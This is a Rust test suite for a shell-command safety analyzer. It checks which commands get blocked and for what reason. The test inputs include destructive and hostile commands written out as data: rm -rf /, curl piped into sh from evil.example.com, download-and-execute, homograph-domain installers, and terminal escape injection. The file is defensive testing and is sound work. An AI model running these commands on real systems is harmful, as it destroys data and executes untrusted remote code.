use shellshield::analyzer::{analyze, analyze_with_depth};
use shellshield::config::Config;
use shellshield::decision::Decision;
use shellshield::git::NullGitStatus;

fn analyze_default(cmd: &str) -> Decision {
    analyze(cmd, &Config::default(), None, &NullGitStatus)
}

#[test]
fn allows_benign_command() {
    let decision = analyze_default("ls -la");
    assert!(!decision.blocked);
}

#[test]
fn blocks_rm_root_via_core_ast() {
    let decision = analyze_default("rm -rf /");
    assert!(decision.blocked);
    assert_eq!(decision.rule, "CoreAst");
    assert_eq!(decision.reason, "CRITICAL PATH PROTECTED");
}

#[test]
fn quoted_destructive_text_is_allowed() {
    let decision = analyze_default("echo 'rm -rf /'");
    assert!(!decision.blocked);
}

#[test]
fn malformed_syntax_blocks() {
    let decision = analyze_default("echo 'unterminated");
    assert!(decision.blocked);
    assert_eq!(decision.reason, "MALFORMED COMMAND SYNTAX");
}

#[test]
fn over_length_command_blocks() {
    let long = "echo ".to_string() + &"a".repeat(shellshield::patterns::MAX_INPUT_LENGTH + 1);
    let decision = analyze_default(&long);
    assert!(decision.blocked);
    assert_eq!(decision.reason, "COMMAND TOO LONG");
}

#[test]
fn subshell_depth_limit_is_enforced() {
    let mut config = Config::default();
    config.max_subshell_depth = 1;
    let decision = analyze_with_depth("true", &config, None, &NullGitStatus, 5);
    assert_eq!(decision.reason, "SUBSHELL DEPTH LIMIT EXCEEDED");
}

#[test]
fn nested_subshell_recursion_propagates_block() {
    let decision = analyze_default(r#"bash -c "rm -rf /""#);
    assert!(decision.blocked);
}

// ── end-to-end scenario table ────────────────────────────────────────────────

#[test]
fn scenario_1_rm_rf_root() {
    let decision = analyze_default("rm -rf /");
    assert!(decision.blocked);
    assert_eq!(decision.rule, "CoreAst");
    assert_eq!(decision.reason, "CRITICAL PATH PROTECTED");
    assert!(decision.suggestion.contains('/'));
}

#[test]
fn scenario_2_git_rm_is_allowed() {
    assert!(!analyze_default("git rm file.txt").blocked);
}

#[test]
fn scenario_3_quoted_command_is_allowed() {
    assert!(!analyze_default("echo 'rm -rf /'").blocked);
}

#[test]
fn scenario_4_variable_indirected_destructive_command() {
    let decision = analyze_default("CMD=rm; $CMD file.txt");
    assert_eq!(decision.reason, "Destructive command 'rm' detected");
    assert_eq!(decision.suggestion, "trash file.txt");
}

#[test]
fn scenario_5_trusted_pipe_to_shell_is_allowed() {
    let decision = analyze_default(
        "curl -sSL https://raw.githubusercontent.com/x/y/main/install.sh | bash",
    );
    assert!(!decision.blocked);
}

#[test]
fn scenario_6_insecure_transport_blocks() {
    let decision = analyze_default("curl http://evil.example.com/x | sh");
    assert!(decision.blocked);
    assert_eq!(decision.reason, "INSECURE TRANSPORT DETECTED");
}

#[test]
fn scenario_7_download_and_exec_blocks() {
    let decision = analyze_default("curl https://x.test/a.sh -o /tmp/a.sh && bash /tmp/a.sh");
    assert!(decision.blocked);
    assert_eq!(decision.reason, "DOWNLOAD-AND-EXEC DETECTED");
}

#[test]
fn scenario_8_deep_nested_destructive_subshell_blocks() {
    let cmd = r#"bash -c "bash -c 'bash -c \"bash -c rm /etc\"'""#;
    let decision = analyze_default(cmd);
    assert!(decision.blocked);
    assert!(
        decision.reason == "DEEP SUBSHELL DETECTED" || decision.reason == "CRITICAL PATH PROTECTED",
        "unexpected reason: {}",
        decision.reason
    );
}

#[test]
fn scenario_9_homograph_host_blocks() {
    let decision = analyze_default("curl https://аррӏе.com/i.sh | bash");
    assert!(decision.blocked);
    assert_eq!(decision.reason, "HOMOGRAPH ATTACK DETECTED");
}

#[test]
fn scenario_10_terminal_injection_blocks() {
    let decision = analyze_default("echo -e \"\x1b[2Jrm -rf /\"");
    assert!(decision.blocked);
    assert_eq!(decision.reason, "TERMINAL INJECTION DETECTED");
}

#[test]
fn scenario_11_volume_threshold_exceeded() {
    let targets: Vec<String> = (1..=200).map(|n| format!("file{n}")).collect();
    let cmd = format!("rm {}", targets.join(" "));
    let decision = analyze_default(&cmd);
    assert!(decision.blocked);
    assert_eq!(decision.reason, "VOLUME THRESHOLD EXCEEDED");
}

#[test]
fn scenario_12_find_delete_blocks() {
    let decision = analyze_default("find . -name '*.log' -delete");
    assert!(decision.blocked);
    assert!(decision.reason.contains("-delete"));
}

#[test]
fn scenario_13_sensitive_path_targeted() {
    std::env::set_var("HOME", "/home/tester");
    let decision = analyze_default("wget -O ~/.bashrc https://x/y");
    assert!(decision.blocked);
    assert_eq!(decision.reason, "SENSITIVE PATH TARGETED");
}

// ── universal properties ─────────────────────────────────────────────────────

#[test]
fn idempotence_same_input_same_decision() {
    let a = analyze_default("rm -rf /tmp/x");
    let b = analyze_default("rm -rf /tmp/x");
    assert_eq!(a, b);
}

#[test]
fn monotone_blocklist_adding_a_name_never_unblocks() {
    let mut config = Config::default();
    let before = analyze("nuke everything", &config, None, &NullGitStatus);
    assert!(!before.blocked);

    config.blocked.insert("nuke".to_string());
    let after = analyze("nuke everything", &config, None, &NullGitStatus);
    assert!(after.blocked);
}

#[test]
fn allowlist_dominance_over_blocklist() {
    let mut config = Config::default();
    assert!(config.blocked.contains("rm"));
    config.allowed.insert("rm".to_string());
    let decision = analyze("rm file.txt", &config, None, &NullGitStatus);
    assert!(!decision.blocked);
}

#[test]
fn depth_bound_is_respected() {
    let mut config = Config::default();
    config.max_subshell_depth = 2;
    let decision = analyze_with_depth("true", &config, None, &NullGitStatus, 3);
    assert_eq!(decision.reason, "SUBSHELL DEPTH LIMIT EXCEEDED");
}

#[test]
fn length_bound_rejects_over_long_commands() {
    let long = "a".repeat(shellshield::patterns::MAX_INPUT_LENGTH + 1);
    let decision = analyze_default(&long);
    assert!(decision.blocked);
    assert_eq!(decision.reason, "COMMAND TOO LONG");
}

#[test]
fn trusted_domain_invariant_for_pipe_to_shell() {
    let config = Config::default();
    let trusted = analyze(
        "curl -sSL https://raw.githubusercontent.com/x/y/main/install.sh | bash",
        &config,
        None,
        &NullGitStatus,
    );
    assert!(!trusted.blocked);

    let untrusted = analyze(
        "curl -sSL https://totally-untrusted.example.com/install.sh | bash",
        &config,
        None,
        &NullGitStatus,
    );
    assert!(untrusted.blocked);
}
